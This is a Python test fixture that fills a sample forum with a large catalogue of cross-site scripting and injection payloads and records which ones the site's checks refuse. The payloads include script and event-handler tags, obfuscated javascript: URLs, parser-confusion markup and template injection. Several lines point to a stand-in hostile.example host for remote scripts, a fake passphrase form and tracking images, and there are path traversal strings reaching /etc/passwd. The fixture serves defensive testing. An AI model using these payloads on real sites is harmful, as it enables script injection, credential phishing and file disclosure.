"""Ways to carry script, markup or a foreign address into a page. None may work; some are refused before there is a page.

Each calls `hack()` or sets `__hacked` in one way or another, so that a single look at the window tells.
"""

from collections import defaultdict

from forum import Forum, findings

CALL = "window.__hacked=1"

# Raw HTML, in paragraphs, blocks and broken in every way that is known to confuse parsers.
HTML = [
    f"<script>{CALL}</script>",
    f"text <script>{CALL}</script> text",
    f"<ScRiPt/x>{CALL}</sCrIpT >",
    f"<script\n>{CALL}\n</script\n>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=https://hostile.example/x.js></script>",
    f'<img src=x onerror="{CALL}">',
    f"<img src=x onerror={CALL}//",
    f'<IMG """><SCRIPT>{CALL}</SCRIPT>">',
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f'<svg><a xlink:href="javascript:{CALL}"><text x=20 y=20>x</text></a></svg>',
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<details open ontoggle={CALL}>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f'<iframe src="javascript:{CALL}"></iframe>',
    f"<iframe srcdoc=\"<script>parent.__hacked=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>parent.__hacked=1</script>\"></object>",
    "<embed src=https://hostile.example/x.swf>",
    "<base href=https://hostile.example/>",
    "<meta http-equiv=refresh content='0;url=https://hostile.example/'>",
    "<link rel=stylesheet href=https://hostile.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://hostile.example/x.css';</style>",
    "<form action=https://hostile.example/><input name=passphrase><button>Sign in</button></form>",
    f"<a href=\"javascript:{CALL}\">click</a>",
    "<p id=passphrase class=gate-form data-sign-out>clobbered</p>",
    "<img name=getElementById><form name=body><input name=replaceChildren></form>",
    "<template id=sealed>AAAA</template>",
    "</main></body></html><h1>Another page</h1>",
    "</div></article></ol></section>",
    "<!-- --><script>window.__hacked=1</script><!-- -->",
    "<!--><script>window.__hacked=1</script>-->",
    "<![CDATA[<script>window.__hacked=1</script>]]>",
    "<?php echo 1 ?><script>window.__hacked=1</script>",
    "<textarea></textarea><script>window.__hacked=1</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__hacked=1>\"></noscript>",
    "<title><script>window.__hacked=1</script></title>",
    "<plaintext>",
    "<xmp><script>window.__hacked=1</script>",
]

# What a template or a later reader of the text could take for its own.
TEXT = [
    "{{t.frame.signOut}} {{{html}}} {{> body}} {{#any}}x{{/any}} {{=<% %>=}}",
    "&lt;script&gt;window.__hacked=1&lt;/script&gt; &#60;img src=x onerror=window.__hacked=1&#62;",
    "\u202eright to left\u202c \u2066isolated\u2069 \ufeff \u2028 \u0085",
    "`<script>window.__hacked=1</script>`",
    "```html\"onmouseover=window.__hacked=1 x=\"\n<script>window.__hacked=1</script>\n```",
    "    <script>window.__hacked=1</script>",
    "## <img src=x onerror=window.__hacked=1> \" onmouseover=window.__hacked=1 x=\"",
    "## passphrase\n\n## main\n\n## sealed\n\n## gate",
    "| a | b |\n| --- | --- |\n| <script>window.__hacked=1</script> | \" onclick=window.__hacked=1 |",
    "Note[^\"><img src=x onerror=window.__hacked=1>].\n\n[^\"><img src=x onerror=window.__hacked=1>]: <script>window.__hacked=1</script>",
    "https://example.org/\"onmouseover=\"window.__hacked=1 https://example.org/'onclick='window.__hacked=1",
    "https://example.org/<script>window.__hacked=1</script>",
    "a\"onclick=window.__hacked=1@example.org <someone\"onclick=1@example.org>",
    "- [ ] <input onfocus=window.__hacked=1 autofocus>\n- [x] done",
    "[quoted](https://example.org/ 'x\" onmouseover=\"window.__hacked=1')",
    "[named][x]\n\n[x]: <https://example.org/\"onclick=window.__hacked=1> \"t\" ",
    "<https://example.org/\"onclick=window.__hacked=1>",
    "~~<script>window.__hacked=1</script>~~ **<b onclick=window.__hacked=1>** ***<svg/onload=window.__hacked=1>***",
]

SCRIPT = [
    "javascript:window.__hacked=1", "JaVaScRiPt:window.__hacked=1", "javascript&colon;window.__hacked=1",
    "&#106;avascript:window.__hacked=1", "&#x6A;&#x61;vascript:window.__hacked=1", "java&#115;cript:window.__hacked=1",
    "javascript&#58;window.__hacked=1", "javascript&#x3a;window.__hacked=1", "javascript%3Awindow.__hacked=1",
    "java&Tab;script:window.__hacked=1", "java&NewLine;script:window.__hacked=1", "java&#9;script:window.__hacked=1",
    "java&#10;script:window.__hacked=1", "java&#13;script:window.__hacked=1", "&#1;javascript:window.__hacked=1",
    "&#32;javascript:window.__hacked=1", "\u00a0javascript:window.__hacked=1", "\\javascript:window.__hacked=1",
    "vbscript:msgbox(1)", "data:text/html,<script>window.__hacked=1</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:text/html,x", "data:image/svg+xml,x", "file:///etc/passwd", "blob:https://example.org/1", "view-source:x",
    "javascript://example.org/%0Awindow.__hacked=1", "jav\u0000ascript:window.__hacked=1", "feed:javascript:window.__hacked=1",
    "about:blank", "filesystem:https://example.org/x", "ws://example.org/", "//hostile.example/", "\\\\hostile.example/",
    "/\\hostile.example/", "https:hostile.example", "../../../../../etc/passwd", "/etc/passwd", "%2e%2e/%2e%2e/x",
]

# Each address as a link, an automatic link, a reference and a picture.
LINKS = [form for address in SCRIPT for form in (
    f"[link](<{address}>)", f"[link]({address.replace(' ', '%20')})", f"<{address}>", f"[link][r]\n\n[r]: <{address}>",
    f"![picture](<{address}>)", f"[![picture](<{address}>)](<{address}>)")]

PICTURES = [
    "![x](https://hostile.example/spy.png)", "![x](//hostile.example/spy.png)", "![x](files/../../../secret.png)",
    "![\" onerror=\"window.__hacked=1](files/none.png)", "![x](files/none.png 'x\" onerror=\"window.__hacked=1')",
    "![<script>window.__hacked=1</script>](files/none.svg)",
]

PAYLOADS = HTML + TEXT + LINKS + PICTURES

# In the values of front matter, which are plain text.
VALUE = "</h1></title><script>window.__hacked=1</script><img src=x onerror=window.__hacked=1>\\\" onclick=\\\"window.__hacked=1"


class HostileForum(Forum):
    """The sample with one discussion, an entry and a page more; `kept` are the payloads that the checks let through."""

    def __init__(self, root):
        super().__init__(root)
        folder = self.root / "content/discussions/2026-666"
        folder.mkdir()
        (folder / "discussion.yaml").write_text("room: english\ncategories: [training]\nopens: 2026-11-01\n")
        (folder / "index.en.md").write_text(
            f'---\ntitle: "{VALUE}"\nquestions: ["{VALUE}", "{{{{html}}}}"]\n---\nBackground.\n\n{HTML[0]}\n')
        (folder / "summary.en.md").write_text("\n\n".join(HTML[:8]) + "\n")
        entry = self.root / "content/library/hostile"
        entry.mkdir()
        (entry / "entry.yaml").write_text(
            f'kind: tool\ndate: 2026-11-02\ncategories: [training]\nlinks: [{{url: "https://example.org/", title: "{VALUE}"}}]\n')
        (entry / "index.en.md").write_text(f'---\ntitle: "{VALUE}"\n---\n{HTML[6]}\n\nText.\n')
        self.names = {}
        for number, payload in enumerate(PAYLOADS, 1):
            name = f"content/discussions/2026-666/{number:04}.en.md"
            fields = [f'{field}: "{VALUE}"' for field in ("author", "position", "institution")]
            (self.root / name).write_text(
                "---\ndate: 2026-11-03\nrole: participant\nmember: XB\n" + "\n".join(fields) + f"\n---\nBefore.\n\n{payload}\n", "utf-8")
            self.names[name] = payload
        self.refused = self.remove_refused()

    def remove_refused(self):
        """Takes away what the checks refuse: the findings by payload."""
        found = defaultdict(list)
        for finding in findings(self.root):
            if finding["severity"] == "error":
                found[self.names[finding["file"]]].append(finding["id"])
        for name, payload in list(self.names.items()):
            if payload in found:
                (self.root / name).unlink()
        return found

    @property
    def kept(self):
        return [payload for payload in PAYLOADS if payload not in self.refused]
